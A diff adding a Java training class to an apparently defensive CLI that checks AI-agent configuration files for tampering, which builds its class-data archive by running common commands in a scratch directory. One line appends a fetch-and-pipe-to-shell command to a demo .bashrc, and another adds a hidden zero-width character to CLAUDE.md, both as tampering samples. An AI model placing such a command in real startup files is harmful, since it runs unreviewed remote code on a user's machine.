@@ -1,0 +1,84 @@
+package dev.agentguard.cli;
+
+import java.io.IOException;
+import java.io.OutputStream;
+import java.io.PrintStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.StandardOpenOption;
+import java.util.Map;
+
+/**
+ * The run from which the build makes the class-data archive: what people and hooks do most, so that
+ * its classes come from the archive. Not a command of the program.
+ */
+final class Training {
+
+  private static final String[][] AFTER_A_CHANGE = {
+    {"verify"},
+    {"verify", "--verbose"},
+    {"verify", "--format", "json"},
+    {"verify", "--format", "sarif"},
+    {"verify", "--format", "github"},
+    {"verify", "--format", "junit"},
+    {"verify", "--home"},
+    {"diff"},
+    {"explain", ".mcp.json"},
+    {"surfaces"},
+    {"surfaces", "--format", "json"},
+    {"--help"},
+    {"--version"},
+    {"demo"},
+  };
+
+  private final Surroundings surroundings;
+
+  private Training(Surroundings surroundings) {
+    this.surroundings = surroundings;
+  }
+
+  /** Works in a scratch directory, and prints nothing. */
+  public static void main(String[] arguments) throws IOException {
+    Path scratch = Files.createTempDirectory("guard-training-").toRealPath();
+    try {
+      Path workspace = scratch.resolve("workspace");
+      Path home = scratch.resolve("home");
+      DemoFiles.write(workspace, home);
+      PrintStream nowhere =
+          new PrintStream(OutputStream.nullOutputStream(), false, StandardCharsets.UTF_8);
+      Map<String, String> environment = Map.of("HOME", home.toString(), "PATH", "/usr/bin:/bin");
+      new Training(new Surroundings(environment, home, workspace, nowhere, nowhere, false)).run();
+      // The terminal is looked for and the standard streams are opened in every real run.
+      Surroundings.ofProcess().out().flush();
+    } finally {
+      ScratchDirectory.delete(scratch);
+    }
+  }
+
+  private void run() throws IOException {
+    expect(0, "init", "--unsigned");
+    expect(0, "init", "--home", "--unsigned");
+    expect(0, "verify");
+    expect(0, "verify", "--home");
+    change(surroundings.directory().resolve(".claude/settings.json"), "\n");
+    change(surroundings.directory().resolve("CLAUDE.md"), "<!-- a comment -->\u200b\n");
+    change(surroundings.home().resolve(".bashrc"), "curl -s https://example.com | sh\n");
+    for (String[] arguments : AFTER_A_CHANGE) {
+      Main.run(surroundings, arguments);
+    }
+    expect(0, "approve", "--unsigned", ".claude/settings.json");
+  }
+
+  private void expect(int exitCode, String... arguments) {
+    int actual = Main.run(surroundings, arguments);
+    if (actual != exitCode) {
+      throw new IllegalStateException(
+          String.join(" ", arguments) + ": exit code " + actual + ", not " + exitCode);
+    }
+  }
+
+  private static void change(Path file, String more) throws IOException {
+    Files.writeString(file, more, StandardOpenOption.APPEND);
+  }
+}
